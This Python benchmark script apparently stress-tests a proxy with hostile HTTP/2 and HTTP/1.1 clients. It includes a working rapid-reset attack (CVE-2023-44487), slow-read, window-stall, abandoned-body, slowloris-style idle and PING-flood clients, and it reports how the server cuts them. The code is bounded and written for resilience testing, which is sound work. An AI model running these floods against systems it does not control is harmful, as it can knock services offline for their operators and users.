#!/usr/bin/python3
"""bench/hostile.py: hostile HTTP/2 and HTTP/1.1 clients against one proxy.

    bench/hostile.py -t HOST:PORT [-d SECONDS] [-k KINDS] [-s SCALE]
                     [--rr-rate N] [--json PATH]

Runs a set of misbehaving clients ("kinds", below) at once against the
cleartext frontend HOST:PORT for SECONDS (default 60), then prints a table of
what the server did to them and (--json) writes the same as JSON. Each kind
has a number of slots (times SCALE); a slot opens a connection, misbehaves,
and watches it until the server cuts it (GOAWAY, close, reset) or the run
ends; a cut slot reconnects after 0.2 s, up to a per-kind connection budget.
Everything is bounded: the run's duration, connections per kind, frames per
connection, and every socket operation has a timeout. Progress goes to
stderr every 10 s. Only the Python standard library is used (raw frames,
hand-made HPACK), so it runs on Debian's /usr/bin/python3 as is.

Kinds (slots at scale 1):
  rapid-reset      HEADERS (GET /size/100) then RST_STREAM(CANCEL), in a
                   loop at --rr-rate streams per second per connection
                   (CVE-2023-44487 shape); reads and acks what the server
                   sends. 2 slots.
  slow-read-h2     h2, large windows, 10 x GET /size/1G, then never reads
                   the socket. 3 slots.
  slow-read-h1     HTTP/1.1 GET /size/1G, then never reads. 3 slots.
  window-stall-h2  h2, default 65535 windows, 10 x GET /size/1M, reads and
                   acks everything but never sends WINDOW_UPDATE. 3 slots.
  abandoned-h2     h2, 20 x POST /echo (content-length: 1000) HEADERS
                   without END_STREAM, never a body; reads and acks. 3 slots.
  abandoned-h1     HTTP/1.1 POST /echo, Content-Length: 100000, the head and
                   10 bytes of body, then nothing. 3 slots.
  idle-silent      connect and send nothing. 5 slots.
  idle-preface     half the HTTP/2 client preface ("PRI * HTTP/2.0\\r\\n").
                   5 slots.
  idle-head        half an HTTP/1.1 request head
                   ("GET / HTTP/1.1\\r\\nHost: x\\r\\nX-A: "). 5 slots.
  ping-flood       h2, PING and empty SETTINGS frames in a loop (10:1) at
                   20000 frames/s, reading the ACKs. 1 slot.
  ping-flood-noread  the same flood, never reading: the ACKs can only
                   queue in the server. 1 slot.

A connection counts as cut when the server sent GOAWAY, closed (EOF), reset
it, or (for clients that never read) the server's end of the TCP connection
left ESTABLISHED in /proc/net/tcp (the server closed its socket; checked
every 0.5 s). Streams reset by the server (RST_STREAM) are counted per error
code. Exit status 0 unless the tool itself failed (connect refused counts as
an error per connection, not a failure).
"""
import argparse
import errno
import json
import socket
import statistics
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
H2_CODES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR",
            "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM",
            "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
            "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
BIG = 1 << 30


def code_name(c):
    return H2_CODES[c] if 0 <= c < len(H2_CODES) else "0x%x" % c


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((ftype, flags)) + \
        struct.pack(">I", sid & 0x7FFFFFFF) + payload


def settings(pairs=()):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def hpack_int(value, prefix_bits, first=0):
    top = (1 << prefix_bits) - 1
    if value < top:
        return bytes((first | value,))
    out = [first | top]
    value -= top
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_lit(index, value):
    """Literal header field without indexing, indexed name (RFC 7541 6.2.2)."""
    v = value.encode()
    return hpack_int(index, 4) + hpack_int(len(v), 7) + v


def request_block(method, path, authority, content_length=None):
    # static table: 2 :method GET, 3 :method POST, 6 :scheme http,
    # 4 :path, 1 :authority, 28 content-length
    b = bytes((0x82 if method == "GET" else 0x83, 0x86))
    b += hpack_lit(4, path) + hpack_lit(1, authority)
    if content_length is not None:
        b += hpack_lit(28, str(content_length))
    return b


class Conn:
    """One hostile connection's socket, frame reader and record."""

    def __init__(self, run, kind):
        self.run = run
        self.kind = kind
        self.rec = {"kind": kind, "opened": None, "cut_after": None, "how": None,
                    "goaway": None, "rst": {}, "responses": 0, "data_bytes": 0,
                    "sent_frames": 0, "streams": 0, "error": None}
        self.sock = None
        self.buf = b""
        self.ack = True
        self.reads = True     # False: never reads; /proc/net/tcp tells a cut
        self.port = None
        self.t0 = None
        self.closed_by_server = threading.Event()

    def connect(self):
        s = socket.create_connection(self.run.target, timeout=5)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock = s
        self.port = s.getsockname()[1]
        self.t0 = time.monotonic()
        self.rec["opened"] = round(self.t0 - self.run.t_start, 3)
        self.run.watch(self)

    def cut(self, how):
        """Record the first sign that the server ended the connection."""
        if self.rec["how"] is None:
            self.rec["how"] = how
            self.rec["cut_after"] = round(time.monotonic() - self.t0, 3)
        self.closed_by_server.set()

    def is_cut(self):
        return self.closed_by_server.is_set()

    def send(self, data, timeout=5.0):
        """sendall bounded by timeout; False when the server stopped
        reading (timeout) or the connection is gone."""
        self.sock.settimeout(timeout)
        try:
            self.sock.sendall(data)
            return True
        except socket.timeout:
            return False
        except OSError as e:
            self.cut("reset" if e.errno in (errno.ECONNRESET, errno.EPIPE) else "error:" + e.strerror)
            return False

    def pump(self, wait):
        """Reads what is there (waiting up to `wait` s for the first bytes),
        handles frames; False once the connection is over."""
        self.sock.settimeout(wait if wait > 0 else 0.0)
        got_any = False
        while True:
            try:
                chunk = self.sock.recv(262144)
            except (socket.timeout, BlockingIOError):
                return not self.is_cut()
            except OSError as e:
                self.cut("reset" if e.errno == errno.ECONNRESET else "error:" + e.strerror)
                return False
            if not chunk:
                self.cut("eof")
                return False
            if not got_any:
                self.sock.settimeout(0.0)
                got_any = True
            self.on_bytes(chunk)
            if self.is_cut() and self.rec["how"] != "goaway":
                return False

    def on_bytes(self, chunk):
        buf = self.buf + chunk
        pos = 0
        out = []
        while len(buf) - pos >= 9:
            n = int.from_bytes(buf[pos:pos + 3], "big")
            if len(buf) - pos < 9 + n:
                break
            t, fl = buf[pos + 3], buf[pos + 4]
            p = buf[pos + 9:pos + 9 + n]
            pos += 9 + n
            if t == SETTINGS and not fl & ACK and self.ack:
                out.append(frame(SETTINGS, ACK, 0))
            elif t == PING and not fl & ACK and self.ack:
                out.append(frame(PING, ACK, 0, p))
            elif t == GOAWAY and len(p) >= 8:
                code = int.from_bytes(p[4:8], "big")
                if self.rec["goaway"] is None:
                    self.rec["goaway"] = code_name(code)
                self.cut("goaway")
            elif t == RST_STREAM and len(p) >= 4:
                c = code_name(int.from_bytes(p[0:4], "big"))
                self.rec["rst"][c] = self.rec["rst"].get(c, 0) + 1
            elif t == HEADERS:
                self.rec["responses"] += 1
            elif t == DATA:
                self.rec["data_bytes"] += n
        self.buf = buf[pos:]
        if out and not self.is_cut():
            self.send(b"".join(out), timeout=1.0)

    def close(self):
        self.run.unwatch(self)
        if self.sock is not None:
            try:
                self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                self.sock.close()
            except OSError:
                pass
            self.sock = None


# ---- the kinds --------------------------------------------------------------
# Each takes the Conn (connected) and the run; returns when the connection
# is cut or the run is over. They only misbehave and watch.

def wait_cut(c, run, reading):
    """Holds the connection until it is cut or the run ends."""
    while not run.over() and not c.is_cut():
        if reading:
            if not c.pump(0.5):
                return
        else:
            c.closed_by_server.wait(0.5)


def h2_open(c, pairs=(), conn_window=0):
    data = PREFACE + settings(pairs)
    if conn_window:
        data += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", conn_window))
    c.send(data)


def k_rapid_reset(c, run):
    h2_open(c)
    c.pump(1.0)
    rate = run.args.rr_rate
    batch = max(1, min(100, rate // 20))
    sid = 1
    start = time.monotonic()
    while not run.over() and not c.is_cut() and sid < 2 * run.args.rr_max_streams:
        parts = []
        for _ in range(batch):
            blk = request_block("GET", "/size/100", run.authority)
            parts.append(frame(HEADERS, END_STREAM | END_HEADERS, sid, blk))
            parts.append(frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))
            sid += 2
        if not c.send(b"".join(parts)):
            if c.is_cut():
                break
            c.rec["error"] = "server stopped reading (send blocked 5 s)"
        c.rec["streams"] += batch
        c.rec["sent_frames"] += 2 * batch
        if not c.pump(0):
            break
        ahead = c.rec["streams"] / rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
    wait_cut(c, run, reading=True)


def k_slow_read_h2(c, run):
    c.ack = c.reads = False
    h2_open(c, [(4, 0x7FFFFFFF)], conn_window=0x7FFFFFFF - 65535)
    for i in range(10):
        sid = 1 + 2 * i
        c.send(frame(HEADERS, END_STREAM | END_HEADERS, sid,
                     request_block("GET", "/size/%d" % BIG, run.authority)))
        c.rec["streams"] += 1
    wait_cut(c, run, reading=False)


def k_slow_read_h1(c, run):
    c.reads = False
    c.send(("GET /size/%d HTTP/1.1\r\nHost: %s\r\n\r\n" % (BIG, run.authority)).encode())
    c.rec["streams"] = 1
    wait_cut(c, run, reading=False)


def k_window_stall_h2(c, run):
    h2_open(c)
    for i in range(10):
        c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i,
                     request_block("GET", "/size/1048576", run.authority)))
        c.rec["streams"] += 1
    wait_cut(c, run, reading=True)


def k_abandoned_h2(c, run):
    h2_open(c)
    for i in range(20):
        c.send(frame(HEADERS, END_HEADERS, 1 + 2 * i,
                     request_block("POST", "/echo", run.authority, content_length=1000)))
        c.rec["streams"] += 1
    wait_cut(c, run, reading=True)


def k_abandoned_h1(c, run):
    c.send(("POST /echo HTTP/1.1\r\nHost: %s\r\nContent-Length: 100000\r\n\r\n" % run.authority
            ).encode() + b"x" * 10)
    c.rec["streams"] = 1
    wait_h1(c, run)


def wait_h1(c, run):
    """Reads whatever comes (a 408 or an error answer) until EOF."""
    while not run.over() and not c.is_cut():
        c.sock.settimeout(0.5)
        try:
            b = c.sock.recv(65536)
        except socket.timeout:
            continue
        except OSError as e:
            c.cut("reset" if e.errno == errno.ECONNRESET else "error:" + e.strerror)
            return
        if not b:
            c.cut("eof")
            return
        if b.startswith(b"HTTP/1.1 ") and c.rec["responses"] == 0:
            c.rec["responses"] += 1
            c.rec["status"] = b[9:12].decode(errors="replace")


def k_idle_silent(c, run):
    wait_h1(c, run)


def k_idle_preface(c, run):
    c.send(PREFACE[:16])
    wait_h1(c, run)


def k_idle_head(c, run):
    c.send(b"GET / HTTP/1.1\r\nHost: x\r\nX-A: ")
    wait_h1(c, run)


def flood(c, run, reading):
    c.ack = c.reads = reading
    h2_open(c)
    rate = 20000
    batch = 110
    one = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(100)) + \
        settings() * 10
    start = time.monotonic()
    while not run.over() and not c.is_cut() and c.rec["sent_frames"] < run.args.flood_max_frames:
        if not c.send(one, timeout=5.0):
            if c.is_cut():
                break
            c.rec["error"] = "server stopped reading (send blocked 5 s)"
            break
        c.rec["sent_frames"] += batch
        if reading and not c.pump(0):
            break
        ahead = c.rec["sent_frames"] / rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
    wait_cut(c, run, reading=reading)


def k_ping_flood(c, run):
    flood(c, run, True)


def k_ping_flood_noread(c, run):
    flood(c, run, False)


KINDS = [  # name, function, slots at scale 1
    ("rapid-reset", k_rapid_reset, 2),
    ("slow-read-h2", k_slow_read_h2, 3),
    ("slow-read-h1", k_slow_read_h1, 3),
    ("window-stall-h2", k_window_stall_h2, 3),
    ("abandoned-h2", k_abandoned_h2, 3),
    ("abandoned-h1", k_abandoned_h1, 3),
    ("idle-silent", k_idle_silent, 5),
    ("idle-preface", k_idle_preface, 5),
    ("idle-head", k_idle_head, 5),
    ("ping-flood", k_ping_flood, 1),
    ("ping-flood-noread", k_ping_flood_noread, 1),
]
KIND_NAMES = [k[0] for k in KINDS]


class Run:
    def __init__(self, args):
        self.args = args
        host, port = args.target.rsplit(":", 1)
        self.target = (host, int(port))
        self.authority = args.target
        self.t_start = time.monotonic()
        self.deadline = self.t_start + args.duration
        self.lock = threading.Lock()
        self.live = {}        # client port -> Conn
        self.records = []
        self.stop = threading.Event()

    def over(self):
        return self.stop.is_set() or time.monotonic() >= self.deadline

    def watch(self, c):
        with self.lock:
            self.live[c.port] = c

    def unwatch(self, c):
        with self.lock:
            self.live.pop(c.port, None)

    def proc_monitor(self):
        """Marks connections whose server end left ESTABLISHED."""
        hexport = "%04X" % self.target[1]
        while not self.stop.wait(0.5):
            states = {}
            try:
                with open("/proc/net/tcp") as f:
                    next(f)
                    for line in f:
                        cols = line.split()
                        if cols[1].endswith(":" + hexport):
                            states[int(cols[2].rsplit(":", 1)[1], 16)] = cols[3]
            except OSError:
                continue
            with self.lock:
                conns = list(self.live.values())
            for c in conns:
                if c.reads:
                    continue
                st = states.get(c.port)
                if st != "01" and not c.is_cut():
                    c.cut("server closed")

    def slot(self, name, fn, budget):
        while not self.over():
            with self.lock:
                if budget[0] <= 0:
                    break
                budget[0] -= 1
            c = Conn(self, name)
            with self.lock:
                self.records.append(c.rec)
            try:
                c.connect()
            except OSError as e:
                c.rec["error"] = "connect: " + (e.strerror or str(e))
                c.rec["opened"] = round(time.monotonic() - self.t_start, 3)
                time.sleep(0.5)
                continue
            try:
                fn(c, self)
            except Exception as e:  # a bug in this tool or an odd socket state
                c.rec["error"] = "%s: %s" % (type(e).__name__, e)
            finally:
                c.close()
            if not c.is_cut():
                c.rec["held"] = round(time.monotonic() - c.t0, 1)
            time.sleep(0.2)

    def progress(self, kinds):
        parts = []
        with self.lock:
            recs = list(self.records)
        for k in kinds:
            rs = [r for r in recs if r["kind"] == k]
            cut = sum(1 for r in rs if r["how"])
            parts.append("%s %d/%d" % (k, cut, len(rs)))
        return "hostile: t=%3.0fs cut/opened: " % (time.monotonic() - self.t_start) + ", ".join(parts)


def summarize(run, kinds):
    rows = []
    for k in kinds:
        rs = [r for r in run.records if r["kind"] == k]
        opened = [r for r in rs if r["opened"] is not None and not (r["error"] or "").startswith("connect")]
        cut = [r for r in opened if r["how"]]
        hows = {}
        for r in cut:
            h = "goaway " + r["goaway"] if r["how"] == "goaway" else r["how"]
            hows[h] = hows.get(h, 0) + 1
        rst = {}
        for r in opened:
            for code, n in r["rst"].items():
                rst[code] = rst.get(code, 0) + n
        times = sorted(r["cut_after"] for r in cut)
        statuses = {}
        for r in opened:
            if "status" in r:
                statuses[r["status"]] = statuses.get(r["status"], 0) + 1
        errors = {}
        for r in rs:
            if r["error"]:
                errors[r["error"]] = errors.get(r["error"], 0) + 1
        rows.append({
            "kind": k, "opened": len(opened), "cut": len(cut), "not_cut": len(opened) - len(cut),
            "how": hows, "cut_after_s": {"min": times[0], "median": statistics.median(times),
                                         "max": times[-1]} if times else None,
            "held_uncut_max_s": max((r.get("held", 0) for r in opened if not r["how"]), default=0),
            "rst_received": rst, "h1_status": statuses,
            "streams": sum(r["streams"] for r in opened),
            "frames": sum(r["sent_frames"] for r in opened),
            "errors": errors,
        })
    return rows


def print_table(rows, out):
    print("%-18s %6s %5s %7s %20s  %s" % ("kind", "opened", "cut", "not cut", "cut after s (min/med/max)",
                                          "how cut; streams reset by server; notes"), file=out)
    for r in rows:
        t = r["cut_after_s"]
        ts = "%.1f/%.1f/%.1f" % (t["min"], t["median"], t["max"]) if t else "-"
        notes = []
        if r["how"]:
            notes.append(", ".join("%s %d" % kv for kv in sorted(r["how"].items())))
        if r["rst_received"]:
            notes.append("RST_STREAM " + ", ".join("%s %d" % kv for kv in sorted(r["rst_received"].items())))
        if r["h1_status"]:
            notes.append("HTTP " + ", ".join("%s %d" % kv for kv in sorted(r["h1_status"].items())))
        if r["not_cut"]:
            notes.append("uncut held up to %.0f s" % r["held_uncut_max_s"])
        if r["streams"] and r["kind"] == "rapid-reset":
            notes.append("%d streams opened+reset" % r["streams"])
        if r["frames"] and r["kind"].startswith("ping-flood"):
            notes.append("%d frames sent" % r["frames"])
        for e, n in sorted(r["errors"].items()):
            notes.append("%s x%d" % (e, n))
        print("%-18s %6d %5d %7d %20s  %s" % (r["kind"], r["opened"], r["cut"], r["not_cut"], ts,
                                               "; ".join(notes)), file=out)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("-t", "--target", required=True, help="HOST:PORT of a cleartext frontend")
    ap.add_argument("-d", "--duration", type=float, default=60.0, help="seconds (default 60)")
    ap.add_argument("-k", "--kinds", default=",".join(KIND_NAMES),
                    help="comma-separated kinds (default: all): " + ", ".join(KIND_NAMES))
    ap.add_argument("-s", "--scale", type=int, default=1, help="slots per kind times this (default 1)")
    ap.add_argument("--budget", type=int, default=100,
                    help="connections per slot over the run (default 100)")
    ap.add_argument("--rr-rate", type=int, default=2000,
                    help="rapid-reset streams per second per connection (default 2000)")
    ap.add_argument("--rr-max-streams", type=int, default=200000,
                    help="rapid-reset streams per connection at most (default 200000)")
    ap.add_argument("--flood-max-frames", type=int, default=2000000,
                    help="PING/SETTINGS frames per flood connection at most (default 2000000)")
    ap.add_argument("--json", help="write the summary as JSON to this path")
    args = ap.parse_args()
    kinds = [k for k in args.kinds.split(",") if k]
    for k in kinds:
        if k not in KIND_NAMES:
            ap.error("unknown kind %s" % k)
    if args.duration <= 0 or args.duration > 3600:
        ap.error("duration must be in (0, 3600]")

    run = Run(args)
    threads = [threading.Thread(target=run.proc_monitor, daemon=True)]
    for name, fn, slots in KINDS:
        if name not in kinds:
            continue
        n = slots * max(1, args.scale)
        budget = [n * args.budget]
        for _ in range(n):
            threads.append(threading.Thread(target=run.slot, args=(name, fn, budget), daemon=True))
    print("hostile: %d slots over %s for %.0f s against %s" %
          (len(threads) - 1, ", ".join(kinds), args.duration, args.target), file=sys.stderr, flush=True)
    for t in threads:
        t.start()
    next_report = run.t_start + 10
    try:
        while time.monotonic() < run.deadline:
            time.sleep(min(0.5, max(0.0, run.deadline - time.monotonic())))
            if time.monotonic() >= next_report:
                print(run.progress(kinds), file=sys.stderr, flush=True)
                next_report += 10
    except KeyboardInterrupt:
        pass
    run.stop.set()
    for t in threads[1:]:
        t.join(15)
    stuck = sum(1 for t in threads[1:] if t.is_alive())
    with run.lock:
        rows = summarize(run, kinds)
    print_table(rows, sys.stdout)
    if stuck:
        print("hostile: %d slot threads did not finish within 15 s of the end" % stuck, file=sys.stderr)
    if args.json:
        with open(args.json, "w") as f:
            json.dump({"target": args.target, "duration": args.duration, "scale": args.scale,
                       "kinds": rows, "stuck_threads": stuck}, f, indent=1)
    return 0


if __name__ == "__main__":
    sys.exit(main())
